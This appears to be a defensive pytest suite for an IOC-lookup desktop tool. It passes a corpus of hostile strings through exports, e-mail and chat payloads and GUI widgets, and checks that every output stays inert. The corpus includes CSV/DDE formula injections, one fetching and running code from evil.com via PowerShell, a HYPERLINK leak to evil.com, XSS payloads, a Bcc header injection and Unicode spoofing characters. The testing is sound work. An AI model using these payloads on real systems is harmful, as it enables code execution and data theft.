"""Hostile values end to end: one corpus through extraction, every export, the table and the detail pane.

Every attacker-controlled field of a result (the indicator, Pulsedive intel
text, the error, the source file name) and of the report (title, sources)
carries the same hostile value; each output is then read back the way its
consumer reads it (openpyxl, csv, json, stix2, the email package, an HTML
parser, the chat payload as JSON, Qt roles and widgets). Every test is
parametrised over the corpus, so a failure names the case.
"""

from __future__ import annotations

import csv
import email
import email.policy
import json
import re
import unicodedata
from html.parser import HTMLParser
from typing import NamedTuple
from urllib.parse import parse_qs, urlsplit

import openpyxl
import pytest
import stix2
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QLabel, QPlainTextEdit, QPushButton, QTreeWidget, QTreeWidgetItemIterator
from stix2patterns.validator import run_validator

from iocdesk.delivery import chat
from iocdesk.extraction.extract import extract
from iocdesk.extraction.tlds import is_known_tld
from iocdesk.gui.models import ResultsModel
from iocdesk.gui.widgets.detail import DetailPane
from iocdesk.indicators.display import HIDDEN_CATEGORIES, reveal
from iocdesk.indicators.results import Feed, Intel, LookupResult, Risk, RiskFactor, Status, Threat
from iocdesk.indicators.types import IndicatorType
from iocdesk.indicators.untrusted import replace_surrogates
from iocdesk.reports import tabular
from iocdesk.reports.email import build_draft, copy_summary, mailto_url, write_draft
from iocdesk.reports.report import Report
from iocdesk.reports.safety import FORMULA_PREFIXES
from iocdesk.reports.stix import write_bundle
from iocdesk.reports.xlsx import RESULTS_HEADER, write_workbook


class Case(NamedTuple):
    name: str
    value: str


CORPUS = [
    Case("formula_hyperlink", '=HYPERLINK("http://evil.com/?"&A1,"click")'),
    Case("dde_plus", "+cmd|' /C calc'!A0"),
    Case("dde_minus", "-2+3+cmd|' /C powershell IEX(wget evil.com/x)'!A0"),
    Case("dde_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Case("tab_formula", "\t=1+1"),
    Case("cr_formula", "\r=1+1"),
    Case("error_literal", "#N/A"),
    Case("html_script", "<script>alert(1)</script>evil.com"),
    Case("html_events", '<img src=x onerror=alert(1)><a href="https://evil.com">x</a>http://evil.com/<svg onload=x>'),
    Case("javascript_url", "javascript:alert(1)//evil.com"),
    Case("chat_markup", "<!channel> @here <https://evil.com|click> [click](http://evil.com) <at>all</at>"),
    Case("bare_hosts", "see www.evil.com, evil.com and mail@evil.com"),
    Case("rtl_override", "evil.com\u202egpj.exe"),
    Case("zero_width", "ev\u200bil.com\u2066\ufeff"),
    Case("nul_and_escapes", "evil\x00.com\x00\x1b[31m\x07"),
    Case("lone_surrogate", "evil.com\ud800"),  # a JSON input file's "\\ud800" escape puts one in a URL
    Case("line_breaks", "x\r\nBcc: victim@evil.com\u2028y\x85z"),
    Case("huge_100kB", "http://evil.com/" + "A" * 100_000),
]
IDS = [case.name for case in CORPUS]
cases = pytest.mark.parametrize("case", CORPUS, ids=IDS)

IID = 4242
PULSEDIVE_PAGE = f"https://pulsedive.com/indicator/?iid={IID}"
# Whatever a mail or chat client would turn into a link or run: URL schemes, and host names.
LIVE_SCHEME = re.compile(r"(?i)\b(?:https?|ftps?|sftp|javascript|vbscript|data|file|mailto)\s*:")
HOST = re.compile(r"(?<![\w.-])(?:[\w-]++\.)++([A-Za-z][A-Za-z0-9-]*+)(?![\w-])")  # linear on 100 kB


def hidden(text: str) -> list[str]:
    """The characters of ``text`` a reader cannot see (controls, bidi, zero-width, surrogates...)."""
    return [ch for ch in text if unicodedata.category(ch) in HIDDEN_CATEGORIES]


def clickable(text: str) -> list[str]:
    """What a mail or chat client would autolink in ``text``: live schemes and host names."""
    hosts = [m.group() for m in HOST.finditer(text) if is_known_tld(m.group(1).lower())]
    return LIVE_SCHEME.findall(text) + hosts


def hostile_result(value: str) -> LookupResult:
    """A high-risk result whose every attacker-controlled field is ``value``."""
    intel = Intel(
        iid=IID, indicator=value, pulsedive_type=value, risk=Risk.HIGH, retired=value,
        riskfactors=[RiskFactor(1, value, Risk.HIGH)],
        threats=[Threat(2, value, value, Risk.CRITICAL)],
        feeds=[Feed(3, value, value, value)],
        attributes={value: [value]},
        properties={"geo": {"org": [value]}, value: {value: [value, value]}},
        country=value, region=value, city=value, org=value, asn=value, registrar=value,
        created=value, added=value, updated=value, seen=value, probed=value,
        web_url=value,  # a hostile page URL: nothing may link to it
        raw={"iid": IID, "indicator": value, "properties": {value: value}},
    )  # fmt: skip
    return LookupResult(value, IndicatorType.URL, Status.FOUND, intel, error=value, defanged=True, source=value)


def hostile_report(value: str) -> Report:
    benign = LookupResult("bad.example", IndicatorType.DOMAIN, Status.FOUND, Intel(iid=7, risk=Risk.MEDIUM))
    return Report(
        [hostile_result(value), benign], run_id=3, created="2025-01-02T03:04:05+00:00", sources=[value], title=value
    )


# -- extraction ---------------------------------------------------------------------------------


@cases
def test_extraction_finds_the_real_iocs_and_no_markup(case):
    v = case.value
    text = f"{v} evil[.]com {v}\n198.51.100.7 {v}\thxxps://bad[.]example[.]net/p?q=1 {v}"
    found = extract(text)
    values = {i.value for i in found}
    assert {"evil.com", "198.51.100.7", "https://bad.example.net/p?q=1"} <= values, values
    for ioc in found:
        for text in (ioc.value, ioc.display):
            assert not hidden(text), (text, hidden(text))
            assert not re.search(r"[\s<>\"`]", text), text
            assert not text.startswith(FORMULA_PREFIXES), text


# -- workbook, csv, json, stix --------------------------------------------------------------------


DATA_COLUMNS = ("Indicator", "Risk factors", "Threats", "Feeds", "Country", "ASN", "Org", "First seen",
                "Last seen", "Source", "Error")  # fmt: skip


@cases
def test_xlsx_has_no_formula_no_hidden_character_and_only_pulsedive_links(case, tmp_path):
    report = hostile_report(case.value)
    for defang in (False, True):
        wb = openpyxl.load_workbook(write_workbook(report, tmp_path / f"{defang}.xlsx", details=True, defang=defang))
        links, texts = [], 0
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if cell.hyperlink is not None:
                        links.append(cell.hyperlink.target)
                    if not isinstance(cell.value, str):
                        continue
                    texts += 1
                    assert not hidden(cell.value) and len(cell.value) <= 32_767, (ws.title, cell.coordinate)
                    if cell.value.startswith(FORMULA_PREFIXES):
                        # Literal text, quote-prefixed as if typed after a ': Excel keeps it text on edit.
                        assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
        assert sorted(links) == [PULSEDIVE_PAGE, "https://pulsedive.com/indicator/?iid=7"]
        assert texts > 40
        if not defang:  # the data arrives as the literal text, hidden characters shown
            row = next(wb["Results"].iter_rows(min_row=2, max_row=2, values_only=True))
            cells = [row[RESULTS_HEADER.index(name)][:32_000] for name in DATA_COLUMNS]
            assert cells == [reveal(case.value)[:32_000]] * len(DATA_COLUMNS)


@cases
def test_csv_is_formula_safe_and_json_round_trips(case, tmp_path):
    report = hostile_report(case.value)
    tabular.write_csv(tmp_path / "r.csv", report.results)
    with open(tmp_path / "r.csv", encoding="utf-8-sig", newline="") as handle:  # valid UTF-8
        rows = list(csv.DictReader(handle))
    assert len(rows) == 2
    for row in rows:
        for name, field in row.items():
            assert not field.startswith(FORMULA_PREFIXES), (name, field[:80])
    tabular.write_json(tmp_path / "r.json", tabular.results_document(report.results, {"id": 3}))
    document = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    record = document["results"][0]
    value = replace_surrogates(case.value)  # JSON has no lone surrogates (strict readers refuse them)
    assert record["indicator"] == value and record["threats"] == [value]
    assert record["error"] == value and record["source"] == value


@cases
def test_stix_bundle_is_valid_and_cannot_be_injected(case, tmp_path):
    path = write_bundle(hostile_report(case.value), tmp_path / "b.json")
    text = path.read_text(encoding="utf-8")
    bundle = json.loads(text)
    stix2.parse(text, allow_custom=False)
    (indicator,) = [o for o in bundle["objects"] if o["type"] == "indicator" and o["name"] != "bad.example"]
    assert indicator["name"] == replace_surrogates(case.value)
    assert run_validator(indicator["pattern"]) == []
    refs = [r["url"] for o in bundle["objects"] for r in o.get("external_references", [])]
    assert set(refs) == {PULSEDIVE_PAGE, "https://pulsedive.com/indicator/?iid=7"}


# -- e-mail --------------------------------------------------------------------------------------


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


SAFE_TAGS = {"html", "head", "meta", "title", "body", "h2", "h3", "p", "b", "table", "tr", "th", "td"}


def assert_inert_text(text: str, where: str) -> None:
    assert not hidden(text.replace("\n", "").replace("\r", "")), (where, hidden(text)[:5])
    assert not clickable(text), (where, clickable(text)[:5])


@cases
def test_email_draft_is_inert_and_nothing_in_it_is_clickable(case, tmp_path):
    draft = build_draft(hostile_report(case.value), recipients=["soc@example.org"], subject_template="{title}")
    parsed = email.message_from_bytes(write_draft(draft, tmp_path / "d.eml").read_bytes(), policy=email.policy.default)
    assert parsed["Bcc"] is None and set(parsed.keys()) >= {"Subject", "To", "X-Unsent"}
    assert "\n" not in parsed["Subject"] and not hidden(parsed["Subject"])
    text = parsed.get_body(("plain",)).get_content()
    html_text = parsed.get_body(("html",)).get_content()
    assert_inert_text(text, "text part")
    page = _Html()
    page.feed(html_text)
    assert "<script" not in html_text.lower() and "javascript:" not in html_text.lower()
    for tag, attrs in page.tags:
        assert tag in SAFE_TAGS, tag
        for name, attr in attrs:
            assert name in ("style", "charset"), (tag, name)
            assert "url(" not in (attr or "") and "expression(" not in (attr or "")
    assert_inert_text("".join(page.text), "html part")
    body = parse_qs(urlsplit(mailto_url(hostile_report(case.value))).query)["body"][0]
    assert_inert_text(body, "mailto body")
    assert_inert_text(copy_summary(hostile_report(case.value)), "chat summary")


# -- chat webhooks ----------------------------------------------------------------------------------


def strings(obj) -> list[str]:
    if isinstance(obj, str):
        return [obj]
    if isinstance(obj, dict):
        return [s for value in obj.values() for s in strings(value)]
    if isinstance(obj, list):
        return [s for value in obj for s in strings(value)]
    return []


@cases
@pytest.mark.parametrize("kind", chat.KINDS)
def test_chat_payloads_mention_nobody_and_link_nothing(case, kind):
    payload = chat.payload_for(kind, hostile_report(case.value))
    # Valid JSON that every webhook takes (Teams refuses more than 28 KB: the alert would be lost).
    assert len(json.dumps(payload).encode()) < 20_000
    texts = strings(payload)
    if kind == "teams":
        # Data only in TextRuns (plain text); a TextBlock would render markdown links.
        texts = [s for s in texts if not s.startswith("http://adaptivecards.io/schemas/")]
        assert '"TextBlock"' not in json.dumps(payload)
    for text in texts:
        assert_inert_text(text, kind)
        if kind == "slack":
            assert "<" not in text and ">" not in text, text[:200]  # <!channel>, <@U1>, <http://..|x>
        if kind == "google_chat":
            assert not re.search(r"<(?!/?(?:b|i|br)>)", text), text[:200]


# -- GUI ------------------------------------------------------------------------------------------


@cases
def test_results_table_shows_what_the_text_really_is(case, qapp):
    model = ResultsModel()
    model.set_results([hostile_result(case.value)])
    for defang in (False, True):
        model.set_defang_display(defang)
        for column in ResultsModel.Column:
            index = model.index(0, column)
            shown = model.data(index, Qt.ItemDataRole.DisplayRole) or ""
            tip = model.data(index, Qt.ItemDataRole.ToolTipRole) or ""
            assert not hidden(shown), (column.name, shown[:80])
            assert len(shown) <= 2000, column.name  # Qt lays out the whole text on every paint
            assert not hidden(tip.replace("\n", "")), (column.name, tip[:80])
            markup = re.sub(r"</?qt>|<br>", "", tip)
            assert "<" not in markup and ">" not in markup, (column.name, tip[:200])
    model.set_defang_display(False)
    indicator = model.data(model.index(0, ResultsModel.Column.INDICATOR), Qt.ItemDataRole.DisplayRole)
    assert indicator.startswith(reveal(case.value)[:1000])


@cases
def test_detail_pane_is_plain_text_and_links_nowhere(case, qtbot):
    pane = DetailPane()
    qtbot.addWidget(pane)
    opened: list[str] = []
    pane.openRequested.connect(opened.append)
    pane.show_result(hostile_result(case.value))
    assert pane.findChild(QLabel, "detailIndicator").text().startswith(reveal(case.value)[:1000])
    for label in pane.findChildren(QLabel):
        assert not label.openExternalLinks() and not label.toolTip(), label.objectName()
        if label.text():  # (the risk icon label only holds a pixmap)
            assert label.textFormat() == Qt.TextFormat.PlainText, label.objectName()
            assert not label.textInteractionFlags() & Qt.TextInteractionFlag.LinksAccessibleByMouse
            assert not hidden(label.text().replace("\n", "")), label.objectName()
            assert len(label.text()) <= 2100, label.objectName()
    for tree in pane.findChildren(QTreeWidget):
        it = QTreeWidgetItemIterator(tree)
        while it.value():
            item = it.value()
            for c in range(tree.columnCount()):
                assert not hidden(item.text(c)) and not item.toolTip(c), (tree.objectName(), item.text(c)[:80])
            it += 1
    raw = pane.findChild(QPlainTextEdit, "detailRaw").toPlainText()
    assert not hidden(raw.replace("\n", "")) and json.loads(raw)["iid"] == IID
    open_button = pane.findChild(QPushButton, "openPulsediveButton")
    assert not open_button.isEnabled()  # the page URL came from data: never opened
    pane.open_in_pulsedive()
    assert opened == []
